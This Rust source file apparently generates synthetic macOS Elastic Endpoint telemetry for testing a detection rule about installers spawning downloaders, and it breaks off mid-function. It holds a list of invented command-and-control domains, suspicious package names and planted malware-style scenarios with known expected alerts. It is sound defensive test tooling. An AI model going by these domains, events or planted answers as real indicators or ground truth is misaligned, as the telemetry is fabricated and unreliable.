//! Deterministic generator of realistic macOS Elastic Defend (Endpoint) event streams.
//!
//! # Shape
//!
//! The output is NDJSON: one compact ECS document per line, shaped like the documents Elastic
//! Endpoint ships on macOS (`logs-endpoint.events.{process,network,file,library,security}`):
//! nested objects, `@timestamp` with six fraction digits, array-valued `event.category` /
//! `event.type` / `host.ip` / `process.args` / `process.Ext.ancestry`, opaque base64
//! `entity_id`s built from `<agent.id>-<pid>-<unix start>`, a per-host increasing
//! `event.sequence`, and process trees with `fork`/`exec`/`end` semantics of Endpoint ≥ 8.7
//! (a `fork` shares the child's entity id but still shows the forking parent's image).
//!
//! # Why
//!
//! No public data set of complete macOS Endpoint documents exists, yet the engine has to be
//! exercised with volume, realistic field shapes and a known ground truth. The stream is
//! mostly benign background activity (file 35 %, process 30 %, network + DNS 25 %, library 8 %,
//! security 2 %) spread over several hosts, interleaved with planted scenarios for the
//! "installer package spawns a downloader" sequence rule: true positives, near misses and
//! edge cases (exact 15 s windows, sub-millisecond truncation, equal-millisecond ties settled
//! by `event.sequence`, arrays, missing join keys, dotted keys, case variants). Every planted
//! scenario is counted in [`GenerateStats::scenarios`].
//!
//! # How
//!
//! Events are produced as small records into a time-ordered heap (scenarios and process
//! lifecycles schedule events into the future), popped in event-time order (which fixes
//! `event.sequence`), lightly shuffled (an event is held back by at most 2 s of event time,
//! well inside the engine's default 5 s lateness) and serialised by hand into a reused
//! buffer. A seeded ChaCha8 generator and a fixed base time make the output a pure function
//! of [`GenerateConfig`].

use std::cmp::Ordering;
use std::collections::BinaryHeap;
use std::io::Write;
use std::rc::Rc;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// What to generate.
pub struct GenerateConfig {
    /// Seed of the pseudo-random generator; equal configs give byte-identical output.
    pub seed: u64,
    /// Number of macOS hosts carrying the background traffic (0 is treated as 1).
    pub hosts: usize,
    /// Exact number of lines written.
    pub events: u64,
}

/// What was generated.
#[derive(Debug, Default, Clone)]
pub struct GenerateStats {
    /// Lines written.
    pub events: u64,
    /// Bytes written, newlines included.
    pub bytes: u64,
    /// Alerts the default rule is expected to raise on the planted scenarios.
    pub planted_true_positives: u64,
    /// Planted look-alikes that must not alert.
    pub planted_near_misses: u64,
    /// Planted scenario instances per label, in a fixed label order.
    pub scenarios: Vec<(&'static str, u64)>,
}

/// Writes NDJSON (one compact JSON object per line, `\n`-terminated) to `out`.
pub fn generate<W: std::io::Write>(cfg: &GenerateConfig, out: W) -> std::io::Result<GenerateStats> {
    let mut g = Gen::new(cfg);
    g.run(out)?;
    Ok(g.stats)
}

// ---------------------------------------------------------------------------------------------
// Time

/// 2026-11-02T09:00:00Z in microseconds since the Unix epoch.
const BASE_US: i64 = (days_from_civil(2026, 11, 2) * 86_400 + 9 * 3_600) * 1_000_000;

const fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

fn civil_from_days(z: i64) -> (i64, i64, i64) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (if m <= 2 { yoe + era * 400 + 1 } else { yoe + era * 400 }, m, d)
}

/// RFC 3339 UTC with six fraction digits: `2026-11-02T09:00:00.123456Z`.
fn fmt_ts(us: i64) -> [u8; 27] {
    let secs = us.div_euclid(1_000_000);
    let frac = us.rem_euclid(1_000_000);
    let (y, mo, d) = civil_from_days(secs.div_euclid(86_400));
    let sod = secs.rem_euclid(86_400);
    let mut o = *b"0000-00-00T00:00:00.000000Z";
    let put = |o: &mut [u8; 27], at: usize, width: usize, mut v: i64| {
        for i in (0..width).rev() {
            o[at + i] = b'0' + (v % 10) as u8;
            v /= 10;
        }
    };
    put(&mut o, 0, 4, y);
    put(&mut o, 5, 2, mo);
    put(&mut o, 8, 2, d);
    put(&mut o, 11, 2, sod / 3600);
    put(&mut o, 14, 2, sod / 60 % 60);
    put(&mut o, 17, 2, sod % 60);
    put(&mut o, 20, 6, frac);
    o
}

// ---------------------------------------------------------------------------------------------
// JSON writing

/// Minimal JSON object writer over a reused buffer. Objects can be written nested or
/// "flat" (keys spelled `a.b.c` in the enclosing object), which is how Kibana-written and
/// hand-made documents mix dotted keys into Endpoint's nested shape.
#[derive(Default)]
struct Js {
    /// Output buffer; documents are appended and flushed in batches by the caller.
    b: Vec<u8>,
    /// Where the current document starts in `b`.
    start: usize,
    comma: bool,
    prefix: Vec<u8>,
    stack: Vec<(bool, usize)>,
}

impl Js {
    fn begin(&mut self) {
        self.start = self.b.len();
        self.b.push(b'{');
        self.comma = false;
        self.prefix.clear();
        self.stack.clear();
    }
    fn end(&mut self) {
        self.b.extend_from_slice(b"}\n");
    }
    #[inline]
    fn key(&mut self, k: &str) {
        if self.comma {
            self.b.push(b',');
        }
        self.b.push(b'"');
        self.b.extend_from_slice(&self.prefix);
        self.b.extend_from_slice(k.as_bytes());
        self.b.extend_from_slice(b"\":");
        self.comma = true;
    }
    /// String member.
    #[inline]
    fn s(&mut self, k: &str, v: &str) {
        self.key(k);
        esc(&mut self.b, v);
    }
    /// Integer member.
    #[inline]
    fn n(&mut self, k: &str, v: i64) {
        self.key(k);
        num(&mut self.b, v);
    }
    fn bo(&mut self, k: &str, v: bool) {
        self.key(k);
        self.b.extend_from_slice(if v { b"true" } else { b"false" });
    }
    fn null(&mut self, k: &str) {
        self.key(k);
        self.b.extend_from_slice(b"null");
    }
    /// Array-of-strings member.
    fn arr<'a, I: IntoIterator<Item = &'a str>>(&mut self, k: &str, it: I) {
        self.key(k);
        self.b.push(b'[');
        for (i, x) in it.into_iter().enumerate() {
            if i > 0 {
                self.b.push(b',');
            }
            esc(&mut self.b, x);
        }
        self.b.push(b']');
    }
    /// Opens object `k`; flat when asked or when already inside a flat object.
    fn open(&mut self, k: &str, flat: bool) {
        if flat || !self.prefix.is_empty() {
            self.stack.push((true, self.prefix.len()));
            self.prefix.extend_from_slice(k.as_bytes());
            self.prefix.push(b'.');
        } else {
            self.key(k);
            self.b.push(b'{');
            self.comma = false;
            self.stack.push((false, 0));
        }
    }
    fn close(&mut self) {
        match self.stack.pop() {
            Some((true, len)) => self.prefix.truncate(len),
            Some((false, _)) => {
                self.b.push(b'}');
                self.comma = true;
            }
            None => {}
        }
    }
}

/// True when one of the 8 bytes of `x` is a control character, a quote or a backslash.
#[inline]
fn word_needs_escape(x: u64) -> bool {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    let ctrl = x.wrapping_sub(LO * 0x20) & !x;
    let q = x ^ (LO * b'"' as u64);
    let q = q.wrapping_sub(LO) & !q;
    let bs = x ^ (LO * b'\\' as u64);
    let bs = bs.wrapping_sub(LO) & !bs;
    (ctrl | q | bs) & HI != 0
}

/// True when `bytes` holds nothing that JSON strings must escape.
#[inline]
fn clean(bytes: &[u8]) -> bool {
    let mut chunks = bytes.chunks_exact(8);
    for c in &mut chunks {
        let mut w = [0u8; 8];
        w.copy_from_slice(c);
        if word_needs_escape(u64::from_le_bytes(w)) {
            return false;
        }
    }
    chunks.remainder().iter().all(|&c| c >= 0x20 && c != b'"' && c != b'\\')
}

/// Writes `s` as a JSON string literal.
fn esc(b: &mut Vec<u8>, s: &str) {
    b.push(b'"');
    let bytes = s.as_bytes();
    if clean(bytes) {
        b.extend_from_slice(bytes);
        b.push(b'"');
        return;
    }
    let mut start = 0;
    for (i, &c) in bytes.iter().enumerate() {
        let rep: &[u8] = match c {
            b'"' => b"\\\"",
            b'\\' => b"\\\\",
            b'\n' => b"\\n",
            b'\r' => b"\\r",
            b'\t' => b"\\t",
            0..=0x1f => {
                b.extend_from_slice(&bytes[start..i]);
                const HEX: &[u8; 16] = b"0123456789abcdef";
                b.extend_from_slice(b"\\u00");
                b.push(HEX[(c >> 4) as usize]);
                b.push(HEX[(c & 15) as usize]);
                start = i + 1;
                continue;
            }
            _ => continue,
        };
        b.extend_from_slice(&bytes[start..i]);
        b.extend_from_slice(rep);
        start = i + 1;
    }
    b.extend_from_slice(&bytes[start..]);
    b.push(b'"');
}

/// Writes `v` in decimal.
fn num(b: &mut Vec<u8>, v: i64) {
    if v < 0 {
        b.push(b'-');
    }
    let mut u = v.unsigned_abs();
    let mut tmp = [0u8; 20];
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (u % 10) as u8;
        u /= 10;
        if u == 0 {
            break;
        }
    }
    b.extend_from_slice(&tmp[i..]);
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Standard base64 with padding (the alphabet of `entity_id`).
fn base64(input: &[u8]) -> String {
    let mut o = String::with_capacity(input.len().div_ceil(3) * 4);
    for ch in input.chunks(3) {
        let n = (ch[0] as u32) << 16 | (*ch.get(1).unwrap_or(&0) as u32) << 8 | *ch.get(2).unwrap_or(&0) as u32;
        o.push(B64[(n >> 18) as usize & 63] as char);
        o.push(B64[(n >> 12) as usize & 63] as char);
        o.push(if ch.len() > 1 { B64[(n >> 6) as usize & 63] as char } else { '=' });
        o.push(if ch.len() > 2 { B64[n as usize & 63] as char } else { '=' });
    }
    o
}

/// Bijective 64-bit mixer (splitmix64 finalizer).
fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn fnv(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &c in s.as_bytes() {
        h = (h ^ c as u64).wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// `n` hex digits derived from `seed` (stable per binary, so one executable has one hash).
fn hex_digest(seed: u64, n: usize) -> String {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(n);
    let mut st = seed;
    while s.len() < n {
        st = mix(st.wrapping_add(0x9e37_79b9_7f4a_7c15));
        for i in 0..16 {
            if s.len() == n {
                break;
            }
            s.push(HEX[((st >> (i * 4)) & 15) as usize] as char);
        }
    }
    s
}

// ---------------------------------------------------------------------------------------------
// Model

/// Code-signing identity of an executable.
#[derive(Clone, Copy)]
enum Sig {
    Apple,
    Dev(&'static str, &'static str),
    Unsigned,
}

/// One process image (a `fork` and its `exec` share pid and entity id; an in-place `exec`
/// gets a new `Proc` with the same ids).
#[derive(Clone)]
struct Proc {
    pid: u32,
    eid: Rc<str>,
    start_us: i64,
    name: Rc<str>,
    exe: Rc<str>,
    args: Rc<[String]>,
    cmd: Rc<str>,
    root: bool,
    parent: Option<Rc<Proc>>,
    sig: Sig,
    /// Code-signing identifier of the image.
    sid: Rc<str>,
    /// md5 ‖ sha1 ‖ sha256 of the image, hex (32 + 40 + 64 digits).
    digest: Rc<str>,
    cwd: &'static str,
}

impl Proc {
    /// Recomputes the image-derived fields after `name`/`exe`/`sig` changed.
    fn refresh_image(&mut self) {
        self.sid = Rc::from(signing_id(&self.name, self.sig));
        self.digest = Rc::from(hex_digest(fnv(&self.exe), 136));
    }
}

fn signing_id(name: &str, sig: Sig) -> String {
    match sig {
        Sig::Apple => format!("com.apple.{}", name.to_ascii_lowercase().replace(' ', "")),
        Sig::Dev(_, team) => format!("{}.{}", team, name.replace(' ', "-")),
        Sig::Unsigned => String::new(),
    }
}

/// Network event payload.
struct Net {
    start: bool,
    dst_ip: String,
    dst_port: u16,
    domain: Option<String>,
    src_port: u16,
    bytes: (u64, u64),
}

/// What happened.
enum Kind {
    Fork,
    Exec,
    /// Process end with its exit code.
    End(i32),
    Net(Box<Net>),
    /// DNS `lookup_result`: question name and resolved addresses.
    Dns(Box<(String, Vec<String>)>),
    /// File event: index into [`FILE_ACTIONS`] and path.
    File(u8, Box<str>),
    /// Library load: index into [`LIBS`].
    Lib(u8),
    /// Security event: index into [`SEC`].
    Sec(u8),
}

// Per-event quirks: edge cases of the document shape, set on single events of a scenario.
/// `event.type: ["start","info"]`.
const Q_TYPE_INFO: u32 = 1;
/// Two-value `event.category`.
const Q_CAT2: u32 = 1 << 1;
/// `process.parent.name` as a one-element array.
const Q_PARENT_NAME_ARR: u32 = 1 << 2;
/// No `process.entity_id`.
const Q_NO_EID: u32 = 1 << 3;
/// No `process.parent.entity_id`.
const Q_NO_PEID: u32 = 1 << 4;
/// No `host.id`.
const Q_NO_HOST_ID: u32 = 1 << 5;
/// Every key dotted at top level.
const Q_FLAT: u32 = 1 << 6;
/// Some objects dotted, others nested.
const Q_MIXED: u32 = 1 << 7;
/// `host.os.type: "MacOS"`.
const Q_OS_CASE: u32 = 1 << 8;
/// `event.action: "Exec"`.
const Q_ACTION_CASE: u32 = 1 << 9;
/// `process.parent.name` as a two-element array.
const Q_PARENT_NAME_ARR2: u32 = 1 << 10;

/// One scheduled event.
struct Ev {
    /// Event time, µs since the Unix epoch.
    t: i64,
    /// Scheduling order; breaks ties between equal times.
    ord: u64,
    /// Index into `Gen::hosts`.
    host: u32,
    /// `event.sequence`, assigned when the event leaves the heap in time order.
    seq: u64,
    /// `Q_*` quirks.
    q: u32,
    kind: Kind,
    /// The process the event is about (for `fork`: the child, shown with its parent's image).
    p: Rc<Proc>,
}

/// An event held back until `.0` (µs); pops earliest release first.
struct Held(i64, Ev);

impl PartialEq for Held {
    fn eq(&self, o: &Self) -> bool {
        self.0 == o.0 && self.1.ord == o.1.ord
    }
}
impl Eq for Held {}
impl PartialOrd for Held {
    fn partial_cmp(&self, o: &Self) -> Option<Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for Held {
    fn cmp(&self, o: &Self) -> Ordering {
        (o.0, o.1.ord).cmp(&(self.0, self.1.ord))
    }
}

impl PartialEq for Ev {
    fn eq(&self, o: &Self) -> bool {
        self.t == o.t && self.ord == o.ord
    }
}
impl Eq for Ev {}
impl PartialOrd for Ev {
    fn partial_cmp(&self, o: &Self) -> Option<Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for Ev {
    /// Reversed, so `BinaryHeap` pops the earliest event first.
    fn cmp(&self, o: &Self) -> Ordering {
        (o.t, o.ord).cmp(&(self.t, self.ord))
    }
}

/// One endpoint host with its agent identity and long-lived processes.
struct Host {
    agent_id: String,
    agent_version: &'static str,
    host_id: String,
    hostname: String,
    ips: Vec<String>,
    macs: Vec<String>,
    arch: &'static str,
    linux: bool,
    os_version: &'static str,
    os_full: &'static str,
    kernel: &'static str,
    user: String,
    seq: u64,
    next_pid: u32,
    id_prefix: [u8; 8],
    launchd: Rc<Proc>,
    /// Interactive user shell (Terminal → login → zsh).
    zsh: Rc<Proc>,
    /// Long-lived daemons and apps that do file, network and library activity.
    pool: Vec<Rc<Proc>>,
    /// Spawners of short-lived background children: launchd, zsh, an editor helper.
    code_helper: Rc<Proc>,
}

// ---------------------------------------------------------------------------------------------
// Static tables

const MAC_OS: &[(&str, &str, &str)] = &[
    ("15.6.1", "macOS 15.6.1 (24G90)", "24.6.0"),
    ("15.7.1", "macOS 15.7.1 (24G231)", "24.6.0"),
    ("26.0.1", "macOS 26.0.1 (25A362)", "25.0.0"),
    ("26.1", "macOS 26.1 (25B78)", "25.1.0"),
];
const AGENT_VERSIONS: &[&str] = &["8.17.4", "8.18.2", "8.19.3", "9.1.5"];
const USERS: &[&str] = &["jdoe", "asmith", "mgarcia", "kchen", "rpatel", "lnguyen", "tmueller", "ofrost", "bwilson", "ykato"];
const HOST_STEMS: &[&str] = &["MacBook-Pro", "MacBook-Air", "Mac-mini", "iMac", "Mac-Studio"];

const DAEMONS: &[(&str, &str)] = &[
    ("mds", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support/mds"),
    ("mds_stores", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mds_stores"),
    ("cfprefsd", "/usr/sbin/cfprefsd"),
    ("trustd", "/usr/libexec/trustd"),
    ("syspolicyd", "/usr/libexec/syspolicyd"),
    ("nsurlsessiond", "/usr/libexec/nsurlsessiond"),
    ("mDNSResponder", "/usr/sbin/mDNSResponder"),
    ("softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Versions/A/Resources/softwareupdated"),
    ("logd", "/usr/libexec/logd"),
    ("XprotectService", "/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/XPCServices/XprotectService.xpc/Contents/MacOS/XprotectService"),
    ("launchservicesd", "/System/Library/CoreServices/launchservicesd"),
];

const APPS: &[(&str, &str, Sig)] = &[
    ("Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", Sig::Dev("Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV")),
    ("Google Chrome Helper", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/141.0.7390.123/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper", Sig::Dev("Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV")),
    ("Slack", "/Applications/Slack.app/Contents/MacOS/Slack", Sig::Dev("Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)", "BQR82RBBHL")),
    ("Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", Sig::Apple),
    ("Dock", "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", Sig::Apple),
    ("cloudd", "/System/Library/PrivateFrameworks/CloudKitDaemon.framework/Support/cloudd", Sig::Apple),
    ("zoom.us", "/Applications/zoom.us.app/Contents/MacOS/zoom.us", Sig::Dev("Developer ID Application: Zoom Video Communications, Inc. (BJ4HAAB9B3)", "BJ4HAAB9B3")),
    ("Microsoft Outlook", "/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", Sig::Dev("Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9")),
];

const CODE_HELPER: (&str, &str, Sig) = (
    "Code Helper",
    "/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper",
    Sig::Dev("Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9"),
);

/// Short-lived background children: (spawner 0 zsh / 1 launchd / 2 editor, root, name, exe,
/// args, network destination).
type BgChild = (u8, bool, &'static str, &'static str, &'static str, Option<(&'static str, u16)>);
const BG_CHILDREN: &[BgChild] = &[
    (0, false, "git", "/Applications/Xcode.app/Contents/Developer/usr/bin/git", "git status --short", None),
    (0, false, "git", "/Applications/Xcode.app/Contents/Developer/usr/bin/git", "git fetch origin --prune", Some(("github.com", 443))),
    (0, false, "ls", "/bin/ls", "ls -la", None),
    (0, false, "grep", "/usr/bin/grep", "grep -rn TODO src", None),
    (0, false, "curl", "/usr/bin/curl", "curl -sS https://api.github.com/repos/rust-lang/rust/releases/latest", Some(("api.github.com", 443))),
    (0, false, "python3", "/usr/bin/python3", "python3 -m pip list --outdated", Some(("pypi.org", 443))),
    (0, false, "ssh", "/usr/bin/ssh", "ssh -T git@github.com", Some(("github.com", 22))),
    (0, false, "node", "/opt/homebrew/bin/node", "node scripts/build.js --watch", None),
    (0, false, "make", "/usr/bin/make", "make -j8 test", None),
    (0, false, "ruby", "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.4.7/bin/ruby", "ruby -W1 -- /opt/homebrew/Library/Homebrew/brew.rb update --auto-update", Some(("formulae.brew.sh", 443))),
    (0, false, "kubectl", "/opt/homebrew/bin/kubectl", "kubectl get pods -n default", Some(("k8s-prod.internal.example.net", 6443))),
    (1, true, "xpcproxy", "/usr/libexec/xpcproxy", "xpcproxy com.apple.WebKit.WebContent", None),
    (1, false, "mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared", None),
    (1, true, "periodic-wrapper", "/usr/libexec/periodic-wrapper", "/usr/libexec/periodic-wrapper daily", None),
    (1, true, "softwareupdate", "/usr/sbin/softwareupdate", "/usr/sbin/softwareupdate --background-critical", Some(("swscan.apple.com", 443))),
    (1, true, "sh", "/bin/sh", "/bin/sh /usr/libexec/locate.updatedb", None),
    (1, true, "MRT", "/Library/Apple/System/Library/CoreServices/MRT.app/Contents/MacOS/MRT", "MRT -d", None),
    (2, false, "rg", "/Applications/Visual Studio Code.app/Contents/Resources/app/node_modules/@vscode/ripgrep/bin/rg", "rg --files --hidden --no-require-git", None),
    (2, false, "git", "/Applications/Xcode.app/Contents/Developer/usr/bin/git", "git rev-parse --show-toplevel", None),
    (2, false, "rust-analyzer", "/Users/USER/.vscode/extensions/rust-lang.rust-analyzer-0.3.2660-darwin-arm64/server/rust-analyzer", "rust-analyzer", None),
];

/// Background network destinations per pool process name.
fn net_targets(name: &str) -> &'static [(&'static str, u16)] {
    match name {
        "Google Chrome" | "Google Chrome Helper" => {
            &[("www.google.com", 443), ("github.com", 443), ("fonts.gstatic.com", 443), ("docs.rs", 443), ("news.ycombinator.com", 443)]
        }
        "Slack" => &[("edgeapi.slack.com", 443), ("wss-primary.slack.com", 443), ("files.slack.com", 443)],
        "nsurlsessiond" => &[("mesu.apple.com", 443), ("updates.cdn-apple.com", 443)],
        "trustd" => &[("ocsp.apple.com", 80), ("ocsp2.apple.com", 80), ("crl.apple.com", 80)],
        "cloudd" => &[("gateway.icloud.com", 443), ("p42-ckdatabasews.icloud.com", 443)],
        "zoom.us" => &[("zoom.us", 443), ("us05web.zoom.us", 443)],
        "Microsoft Outlook" => &[("outlook.office365.com", 443), ("substrate.office.com", 443)],
        "softwareupdated" => &[("swscan.apple.com", 443), ("swdist.apple.com", 443)],
        "syspolicyd" => &[("api.apple-cloudkit.com", 443)],
        _ => &[("configuration.apple.com", 443), ("gdmf.apple.com", 443)],
    }
}

const LIBS: &[(&str, &str)] = &[
    ("libobjc.A.dylib", "/usr/lib/libobjc.A.dylib"),
    ("libSystem.B.dylib", "/usr/lib/libSystem.B.dylib"),
    ("Foundation", "/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation"),
    ("CoreFoundation", "/System/Library/Frameworks/CoreFoundation.framework/Versions/A/CoreFoundation"),
    ("Security", "/System/Library/Frameworks/Security.framework/Versions/A/Security"),
    ("libswiftCore.dylib", "/usr/lib/swift/libswiftCore.dylib"),
    ("AppKit", "/System/Library/Frameworks/AppKit.framework/Versions/C/AppKit"),
    ("libssl.3.dylib", "/opt/homebrew/Cellar/openssl@3/3.6.0/lib/libssl.3.dylib"),
    ("libEGL.dylib", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/141.0.7390.123/Libraries/libEGL.dylib"),
    ("Electron Framework", "/Applications/Slack.app/Contents/Frameworks/Electron Framework.framework/Versions/A/Electron Framework"),
];

/// Security actions: (action, category, type).
const SEC: &[(&str, &str, &str)] = &[
    ("log_on", "authentication", "start"),
    ("ssh_log_on", "authentication", "start"),
    ("tcc_modify", "configuration", "change"),
    ("gatekeeper_override", "configuration", "change"),
    ("log_off", "authentication", "end"),
];

const FILE_ACTIONS: &[(&str, &str)] =
    &[("creation", "creation"), ("modification", "change"), ("deletion", "deletion"), ("rename", "change"), ("overwrite", "change")];

const C2: &[&str] = &[
    "cdn-updates.applesoftupdate.net",
    "static.mac-optimizer.top",
    "api.sync-cloudnode.com",
    "dl.macupdatehub.org",
    "telemetry.brew-helper.io",
    "assets.driverpackcdn.com",
];
const PKGS: &[(&str, &str)] = &[
    ("update.pkg", "com.updater.pkg"),
    ("updater.pkg", "com.updater.agent"),
    ("ZoomInstallerIT.pkg", "us.zoom.pkg.videomeeting"),
    ("GoogleChrome.pkg", "com.google.Chrome"),
    ("EpsonPrinterDrivers.pkg", "com.epson.drivers.pkg"),
    ("CiscoSecureClient.pkg", "com.cisco.secureclient.vpn"),
    ("FlashPlayerUpdate.pkg", "com.adobe.pkg.FlashPlayer"),
    ("QuickAdd.pkg", "com.jamfsoftware.quickadd"),
];

// ---------------------------------------------------------------------------------------------
// Scenario labels

/// Planted scenarios, in the order reported by [`GenerateStats::scenarios`]. `TP*` alert once;
/// `N*` never alert (except the optional 14 s twin of `N4`, counted as a true positive);
/// `E_*` alert once unless the name says otherwise (`15001ms`, `curl_before`,
/// `missing_join_keys`, `nomatch`). `E_restaged_exec` and `E_two_curl_children` alert exactly once.
const LABELS: &[&str] = &[
    "TP1_mystikal_preinstall",
    "TP2_postinstall_s3_dropper",
    "TP3_silver_sparrow_compound",
    "TP4_tclsh_postinstall",
    "TP5_jamf_quickadd",
    "TP6_case_Installer_Python",
    "N1_postinstall_no_network",
    "N2_unlisted_downloader",
    "N3_grandchild_downloader",
    "N4_late_download",
    "N5_single_command_in_place",
    "N6_reparented_to_launchd",
    "N7_unlisted_parent",
    "N8_python3_interpreter",
    "N9_disconnect_only",
    "N10_not_macos",
    "N11_cross_host",
    "N12_foreign_entity_id",
    "E_gap_15000ms",
    "E_gap_15001ms",
    "E_gap_submillisecond",
    "E_equal_ms_curl_after",
    "E_equal_ms_curl_before",
    "E_array_fields",
    "E_missing_join_keys",
    "E_dotted_flat",
    "E_dotted_mixed",
    "E_case_variants_match",
    "E_case_variants_nomatch",
    "E_restaged_exec",
    "E_two_curl_children",
];

// ---------------------------------------------------------------------------------------------
// Generator

/// A scenario under construction: events on a ms cursor so that every event gets its own
/// millisecond.
struct Sc {
    h: usize,
    c: i64,
    evs: Vec<Ev>,
}

/// Image of a process to start: name, executable, argv.
struct Img {
    name: String,
    exe: String,
    args: Vec<String>,
    sig: Sig,
}

fn img(name: &str, exe: &str, args: &[&str], sig: Sig) -> Img {
    Img { name: name.to_string(), exe: exe.to_string(), args: args.iter().map(|s| s.to_string()).collect(), sig }
}

/// Parent of an installer script.
#[derive(Clone, Copy)]
enum Par {
    /// `Installer.app` (GUI) with the given `process.name`.
    Gui(&'static str),
    /// `/usr/sbin/installer` under `sudo`, with the given `process.name`.
    Cli(&'static str),
    /// `package_script_service` XPC service.
    Pss,
    /// Apple's `system_installd` (not in the rule's parent list).
    SystemInstalld,
    /// `installd` (not in the rule's parent list).
    Installd,
}

/// Where a downloader's connection lands.
#[derive(Clone, Copy)]
enum When {
    /// Random gap in ms after the cursor.
    After(i64, i64),
    /// Exact microsecond timestamp.
    At(i64),
}

/// A downloader child of a shell.
struct Dl {
    img: Img,
    domain: String,
    port: u16,
    when: When,
    /// Quirks on the connection event.
    nq: u32,
    /// Emit the `connection_attempted` (false: only `disconnect_received`).
    connect: bool,
}

/// Generator state.
struct Gen {
    r: ChaCha8Rng,
    hosts: Vec<Host>,
    /// Number of background hosts; extra hosts after these only carry scenarios.
    nbg: usize,
    linux_host: usize,
    spare_host: usize,
    /// Scheduled, not yet released events, earliest first.
    heap: BinaryHeap<Ev>,
    ord: u64,
    /// Background clock (µs); nothing new is scheduled before it.
    now: i64,
    /// Lines to write.
    target: u64,
    /// Events committed to the heap so far (written or pending).
    scheduled: u64,
    /// Scheduled-event count at which the next scenario is planted.
    next_mark: u64,
    /// Seed-shuffled cycle of scenario labels (indices into [`LABELS`]).
    deck: Vec<usize>,
    deck_pos: usize,
    /// Planted instances per label.
    counts: Vec<u64>,
    /// Events held back for local shuffling, by release time.
    delayed: BinaryHeap<Held>,
    /// User of the host the current scenario runs on.
    cur_user: String,
    js: Js,
    id_counter: u64,
    /// Hex digests of [`LIBS`], in table order.
    lib_digests: Vec<String>,
    stats: GenerateStats,
}

impl Gen {
    fn new(cfg: &GenerateConfig) -> Gen {
        let mut r = ChaCha8Rng::seed_from_u64(cfg.seed);
        let nbg = cfg.hosts.max(1);
        let start = BASE_US + r.random_range(0..4 * 3600i64) * 1_000_000 + r.random_range(0..1_000_000i64);
        let mut g = Gen {
            r,
            hosts: Vec::with_capacity(nbg + 2),
            nbg,
            linux_host: nbg,
            spare_host: nbg + 1,
            heap: BinaryHeap::new(),
            ord: 0,
            now: start,
            target: cfg.events,
            scheduled: 0,
            next_mark: 25,
            deck: (0..LABELS.len()).collect(),
            deck_pos: 0,
            counts: vec![0; LABELS.len()],
            delayed: BinaryHeap::new(),
            cur_user: String::new(),
            js: Js { b: Vec::with_capacity(1 << 17), ..Js::default() },
            id_counter: 0,
            lib_digests: LIBS.iter().map(|(_, p)| hex_digest(fnv(p), 136)).collect(),
            stats: GenerateStats::default(),
        };
        for i in 0..nbg + 2 {
            let h = g.make_host(i, i == nbg);
            g.hosts.push(h);
        }
        // Fixed, seed-driven order of scenarios: every label once per round.
        for i in (1..g.deck.len()).rev() {
            let j = g.r.random_range(0..=i);
            g.deck.swap(i, j);
        }
        g.next_mark = g.r.random_range(10..40);
        g
    }

    fn uuid(&mut self, upper: bool) -> String {
        let a: u64 = self.r.random();
        let b: u64 = self.r.random();
        let s = format!(
            "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            (a & 0x0fff) | 0x4000,
            ((b >> 48) & 0x3fff) | 0x8000,
            b & 0xffff_ffff_ffff
        );
        if upper {
            s.to_ascii_uppercase()
        } else {
            s
        }
    }

    fn make_host(&mut self, idx: usize, linux: bool) -> Host {
